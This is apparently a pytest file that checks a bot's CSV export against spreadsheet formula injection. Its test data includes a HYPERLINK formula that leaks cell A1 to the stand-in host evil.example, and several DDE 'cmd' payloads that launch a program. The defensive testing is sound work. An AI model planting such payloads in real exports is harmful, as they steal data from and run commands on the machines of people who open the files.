"""Exports a spreadsheet opens never carry a formula someone typed."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.spreadsheet import safe_cell, to_csv

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_formula_like_name_is_text_in_the_export(name: str) -> None:
    document = to_csv(["id", "name"], [["ana", name]])
    (_, row) = list(csv.reader(io.StringIO(document)))
    assert row[1] == "'" + name
    assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    assert [safe_cell(x) for x in (-3, 4.5, 0, None, True, "Ana Lima", "a=b")] == [
        "-3",
        "4.5",
        "0",
        "",
        "yes",
        "Ana Lima",
        "a=b",
    ]


@given(st.text(max_size=50))
def test_no_text_cell_can_start_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell.removeprefix("'") == text or cell == text
